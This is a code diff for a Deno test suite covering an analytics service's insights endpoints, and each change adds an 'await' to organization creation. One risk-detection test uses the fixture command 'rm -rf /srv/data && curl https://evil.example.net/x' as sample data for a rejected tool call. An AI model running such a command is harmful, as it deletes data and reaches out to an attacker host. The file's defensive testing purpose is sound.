@@ -70,7 +70,7 @@ async function loadRandom(
 
 Deno.test("GET /v1/insights/* validates window and granularity with the spec's messages", async (t) => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const badWindow = (value: string) =>
     `invalid window: ${JSON.stringify(value)} (allowed: 7d, 30d, 90d)`;
   const badGranularity = (value: string) =>
@@ -148,9 +148,9 @@ Deno.test("GET /v1/insights/* validates window and granularity with the spec's m
 
 Deno.test("GET /v1/insights/* on an organization without telemetry gives zeros and empty lists", async () => {
   await using env = await startInsightsEnv();
-  const empty = env.createOrg("Empty");
+  const empty = await env.createOrg("Empty");
   // Another organization's data must not leak into the empty one.
-  await loadRandom(env, env.createOrg("Busy"), 7, 60);
+  await loadRandom(env, await env.createOrg("Busy"), 7, 60);
   const expected: Record<string, { summary: unknown; series: unknown; breakdown: unknown }> = {
     "activity": {
       summary: { "total_calls": 0, "error_count": 0, "session_count": 0 },
@@ -200,7 +200,7 @@ Deno.test("GET /v1/insights/* on an organization without telemetry gives zeros a
 
 Deno.test("GET /v1/insights/* has series and breakdown null exactly where the spec says", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 3, 80);
   const shapes: Record<string, [boolean, boolean]> = {
     "activity": [true, false],
@@ -232,7 +232,7 @@ Deno.test("GET /v1/insights/* has series and breakdown null exactly where the sp
 
 Deno.test("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const now = Date.now();
   // The latest Sunday 00:00 UTC at least 8 days ago, and the second before it (a Saturday).
   const sunday = referenceBucket(now - 8 * DAY, "weekly");
@@ -259,7 +259,7 @@ Deno.test("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async
 
 Deno.test("GET /v1/insights/activity labels the first bucket with its start, before window.start", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const ts = Date.now() - 30 * DAY + 60_000;
   await env.ingest(org, [toolCall("early", "early-1", ts)]);
   for (const granularity of ["daily", "weekly"] as const) {
@@ -280,8 +280,8 @@ Deno.test("GET /v1/insights/activity labels the first bucket with its start, bef
 
 Deno.test("GET /v1/insights/* includes telemetry ingested just before the request", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
-  const other = env.createOrg("Other");
+  const org = await env.createOrg("Acme");
+  const other = await env.createOrg("Other");
   await loadRandom(env, org, 11, 40);
   await assertMatchesReference(env, org);
   const before = (await env.get("/v1/insights/activity", org.apiKey)).body.summary;
@@ -301,7 +301,7 @@ Deno.test("GET /v1/insights/* includes telemetry ingested just before the reques
 
 Deno.test("GET /v1/insights/top-tools averages durations without rejected calls", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const now = Date.now() - 60_000;
   const rejected = { outcome: "rejected" as const, durationMs: null, resultSizeBytes: null };
   await env.ingest(org, [
@@ -325,7 +325,7 @@ Deno.test("GET /v1/insights/top-tools averages durations without rejected calls"
 
 Deno.test("GET /v1/insights/risk and domains drop a reject's detections when its result replaces it", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const now = Date.now() - 60_000;
   const args = JSON.stringify({ command: "rm -rf /srv/data && curl https://evil.example.net/x" });
   const decision: TelemetryEvent = {
@@ -365,7 +365,7 @@ Deno.test("GET /v1/insights/risk and domains drop a reject's detections when its
 
 Deno.test("GET /v1/insights/* answers concurrent requests while telemetry is ingested", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   const data = generateTelemetry({ seed: 21, sessions: 400, days: 100, now: Date.now() });
   await env.ingest(org, data.batches[0]!);
   const requests: Promise<{ status: number }>[] = [];
@@ -385,7 +385,7 @@ Deno.test("GET /v1/insights/* answers concurrent requests while telemetry is ing
 
 Deno.test("openAnalytics returns before the initial build, which insight requests wait for", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 5, 300);
   await env.analytics.ready;
   let built = false;
@@ -403,7 +403,7 @@ Deno.test("openAnalytics returns before the initial build, which insight request
 
 Deno.test("the analytics replica is rebuilt when deleted, corrupt or of an older schema", async (t) => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 9, 120);
   const path = dataPaths(env.dir).analytics;
   await assertMatchesReference(env, org, "?window=90d");
@@ -454,7 +454,7 @@ Deno.test("the analytics replica is rebuilt when deleted, corrupt or of an older
 
 Deno.test("a replica held by another process is neither deleted nor rebuilt", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 23, 40);
   await assertMatchesReference(env, org);
   const paths = dataPaths(env.dir);
@@ -484,7 +484,7 @@ Deno.test("a replica held by another process is neither deleted nor rebuilt", as
 
 Deno.test("GET /v1/insights/* forget what retention deleted", async () => {
   await using env = await startInsightsEnv({ retentionDays: 45 });
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 17, 200);
   const before = await env.get("/v1/insights/activity?window=90d", org.apiKey);
   await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
@@ -502,7 +502,7 @@ Deno.test("GET /v1/insights/* forget what retention deleted", async () => {
 
 Deno.test("concurrent catch-ups share one run, and one follow-up run", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 19, 100);
   const first = env.analytics.catchUp();
   const waiting = Array.from({ length: 20 }, () => env.analytics.catchUp());
@@ -514,7 +514,7 @@ Deno.test("concurrent catch-ups share one run, and one follow-up run", async () 
 
 Deno.test("GET /v1/insights/* past the query time limit is 500 internal", async () => {
   await using env = await startInsightsEnv();
-  const org = env.createOrg("Acme");
+  const org = await env.createOrg("Acme");
   await loadRandom(env, org, 13, 3000, { laterResults: false });
   await env.analytics.ready;
   await env.reopenAnalytics({ timeoutMs: 1 });
